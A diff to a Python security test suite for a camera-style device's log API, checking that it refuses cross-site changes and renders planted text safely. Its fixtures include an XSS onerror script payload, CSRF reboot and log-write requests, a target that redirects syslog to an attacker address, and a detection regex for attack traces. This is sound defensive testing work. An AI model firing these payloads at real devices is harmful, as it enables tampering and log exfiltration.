@@ -17,7 +17,8 @@ What it proves:
   address (a user name and password in a URL it navigates to). Under the device's brute-force
   block that blocks the address, as it would on a device (docs/security.md, residual risks);
   under the project's throttle, his logged-in Digest client there must still get in.
-- Text anyone can plant in the log (a failed login's user name, Basic or Digest) stays text:
+- Foreign text in the log (messages an integration writes, over Basic or Digest; an unknown
+  user name in a failed login is no longer written as sent) stays text:
   the log page shows it as text, and the documentation pages (cu-doc.html, Swagger UI) load
   only the device's own documents whatever path tricks or foreign URLs their parameter holds.
   Every HTML page carries a strict Content-Security-Policy, nosniff and no-referrer.
@@ -101,9 +102,10 @@ REAL_SPEC = "/config/discover/apis/log/v1/openapi.json"
 # Where the documentation pages may load from: themselves, their scripts and the documents.
 DOC_PAGE_SOURCES = ("/config/web-ui/", "/config/discover/", "/favicon.ico")
 # Log lines that only a successful attack writes: a message of the attacker's, or the audit
-# entry of a reboot request, a switched-off persistent log or a cleared one.
+# entry of a reboot request, a switched-off or cleared persistent log, a remote syslog change.
 ATTACK_TRACE = re.compile(
-    r"\]: PWNED-|reboot requested by|persistent logging disabled by|persistent log cleared by"
+    r"\]: PWNED-|: Entity Management: \S+ Restart\.|"
+    r"configured log\.v1\.persistent\.(enabled \(false\)|clearLog)|configured API\.RemoteSyslog1"
 )
 JSON_TYPE = {"Content-Type": "application/json"}
 _T = TypeVar("_T")
@@ -447,6 +449,12 @@ def system_log(api: httpx.Client) -> str:
     return reply.text
 
 
+def audit_log(api: httpx.Client) -> str:
+    reply = api.get("/axis-cgi/auditlog.cgi")
+    assert reply.status_code == 200, reply.text
+    return reply.text
+
+
 class Baseline:
     """The device's state before an attack: persistent logging on, a marker in the persistent
     log, the boot id and every log line. `assert_unchanged` checks it all after the attack."""
@@ -464,8 +472,10 @@ class Baseline:
         self.lines = self._lines()
 
     def _lines(self) -> set[str]:
-        return set(system_log(self.api).splitlines()) | set(
-            self.server.persistent_text().splitlines()
+        return (
+            set(system_log(self.api).splitlines())
+            | set(audit_log(self.api).splitlines())
+            | set(self.server.persistent_text().splitlines())
         )
 
     def assert_unchanged(self, attacks: str = "") -> None:
@@ -494,9 +504,7 @@ XSS_JS = (
     "'application/json'},body:JSON.stringify({data:{msg:'PWNED-XSS',severity:6}})});"
     "window.__pwned=1"
 )
-# As the issue gives it. The log quotes a user name with repr() and escapes backslashes, so its
-# single quotes arrive as \\' and its script would not even parse; Basic also cuts it at the
-# first colon. Planted anyway, as a text-rendering check.
+# As the issue gives it, planted as it is: a text-rendering check.
 LITERAL_PAYLOAD = f'<img src=x onerror="{XSS_JS}">'
 
 
@@ -509,33 +517,22 @@ def encoded_payload(tag: str) -> str:
 EVIL_HTML = '<img src=x onerror="window.__pwned=1">'
 
 
-def plant_basic(url: str, username: str) -> None:
-    reply = httpx.get(f"{url}/axis-cgi/systemlog.cgi", auth=httpx.BasicAuth(username, "wrong"))
-    assert reply.status_code == 401, reply.text
+def _plant(url: str, text: str, auth: httpx.Auth) -> None:
+    """An integration writes `text` into the log (often text it got from elsewhere): since
+    unknown user names are no longer written as sent (DECISIONS 20), messages are how foreign
+    text gets there."""
+    reply = httpx.post(
+        f"{url}{LOG_API}/writeMessage", json={"data": {"msg": text, "severity": 6}}, auth=auth
+    )
+    assert reply.status_code == 200, reply.text
 
 
-def plant_digest(url: str, username: str) -> None:
-    """A Digest answer to a real challenge, for a user who does not exist."""
-    challenge = httpx.get(f"{url}/axis-cgi/systemlog.cgi")
-    digest = next(
-        value
-        for value in challenge.headers.get_list("www-authenticate")
-        if value.startswith("Digest")
-    )
-    params = dict(re.findall(r'(\w+)="([^"]*)"', digest))
-    quoted = username.replace("\\", "\\\\").replace('"', '\\"')
-    found = re.search(r"algorithm=([\w-]+)", digest)
-    algorithm = found.group(1) if found else "MD5"
-    size = 64 if algorithm.upper() == "SHA-256" else 32  # hex digits of a response
-    header = (
-        f'Digest username="{quoted}", realm="{params["realm"]}", nonce="{params["nonce"]}", '
-        f'uri="/axis-cgi/systemlog.cgi", algorithm={algorithm}, qop=auth, nc=00000001, '
-        f'cnonce="0a4f113b", response="{"0" * size}"'
-    )
-    if "opaque" in params:  # echoed when the challenge has one
-        header += f', opaque="{params["opaque"]}"'
-    reply = httpx.get(f"{url}/axis-cgi/systemlog.cgi", headers={"Authorization": header})
-    assert reply.status_code == 401, reply.text
+def plant_basic(url: str, text: str) -> None:
+    _plant(url, text, httpx.BasicAuth("root", USERS["root"][1]))
+
+
+def plant_digest(url: str, text: str) -> None:
+    _plant(url, text, httpx.DigestAuth("root", USERS["root"][1]))
 
 
 def ensure_planted(api: httpx.Client) -> str:
@@ -718,6 +715,29 @@ REBOOT = Target(
     "/axis-cgi/firmwaremanagement.cgi", {"apiVersion": "1.0", "method": "reboot", "context": "x"}
 )
 RESTART = Target("/axis-cgi/restart.cgi", {}, "GET")  # the legacy reboot, on GET
+_ATTACKER_SYSLOG = {
+    "address": "192.0.2.66",
+    "port": 514,
+    "protocol": "UDP",
+    "syslogFormat": "RFC5424",
+    "severity": "Debug",
+    "type": "All",
+}
+# Sending the device's log to an attacker's server, or turning forwarding off.
+REMOTE_SYSLOG_TARGETS = {
+    "setup": Target(
+        "/axis-cgi/remotesyslog.cgi",
+        {
+            "apiVersion": "1.0",
+            "context": "x",
+            "method": "setup",
+            "params": {"servers": [_ATTACKER_SYSLOG]},
+        },
+    ),
+    "disable": Target(
+        "/axis-cgi/remotesyslog.cgi", {"apiVersion": "1.0", "context": "x", "method": "disable"}
+    ),
+}
 WRITE = {"data": {"msg": "PWNED-CSRF", "severity": 6}}
 V1ALPHA = "/config/rest/log/v1alpha"
 LOG_API_TARGETS = {
@@ -1104,18 +1124,27 @@ def test_control_same_payloads_without_origin_change_the_device(tmp_path: Path) 
                     target.method, target.path, content=target.form_body, headers=JSON_TYPE
                 )
                 assert reply.status_code == 200, (name, reply.text)
-                with pytest.raises(AssertionError, match=problem):
+                with pytest.raises(AssertionError, match=problem) as found:
+                    before.assert_unchanged()
+                assert "the log shows a successful attack" in str(found.value), name
+            for name, target in REMOTE_SYSLOG_TARGETS.items():
+                before = Baseline(server, api)
+                reply = api.post(target.path, content=target.form_body, headers=JSON_TYPE)
+                assert "error" not in reply.json(), (name, reply.text)
+                with pytest.raises(AssertionError, match="the log shows a successful attack"):
                     before.assert_unchanged()
             before = Baseline(server, api)
             reply = api.post(REBOOT.path, content=REBOOT.form_body, headers=JSON_TYPE)
             assert "error" not in reply.json(), reply.text
-            with pytest.raises(AssertionError, match="the device rebooted"):
+            with pytest.raises(AssertionError, match="the device rebooted") as found:
                 before.assert_unchanged()
+            assert "the log shows a successful attack" in str(found.value)  # the audit entry
             before = Baseline(server, api)  # restart.cgi: a plain GET with the login reboots
             reply = api.get(RESTART.path)
             assert reply.status_code == 200, reply.text
-            with pytest.raises(AssertionError, match="the device rebooted"):
+            with pytest.raises(AssertionError, match="the device rebooted") as found:
                 before.assert_unchanged()
+            assert "the log shows a successful attack" in str(found.value)  # the audit entry
     finally:
         if server.proc:
             server.stop()
@@ -1159,6 +1188,18 @@ def test_cross_site_log_api_changes_are_refused(
     outcome = run_attacks(session, attacker, session.site.device, target, VECTORS)
     accepted = [v.name for v in VECTORS if any(200 <= s < 300 for s in outcome.statuses(v.name))]
     assert accepted == [], f"the device accepted cross-site requests:\n{outcome.summary()}"
+    baseline.assert_unchanged(outcome.summary())
+
+
+@ALL_SITES
+@pytest.mark.parametrize("name", list(REMOTE_SYSLOG_TARGETS))
+def test_cross_site_remote_syslog_changes_are_refused(
+    session: Session, attacker: Attacker, baseline: Baseline, name: str
+) -> None:
+    """remotesyslog.cgi answers every call with HTTP 200: a refusal is its JSON-RPC error 403,
+    and the audit log (ATTACK_TRACE) tells whether a change got through."""
+    target = REMOTE_SYSLOG_TARGETS[name]
+    outcome = run_attacks(session, attacker, session.site.device, target, VECTORS)
     baseline.assert_unchanged(outcome.summary())
 
 
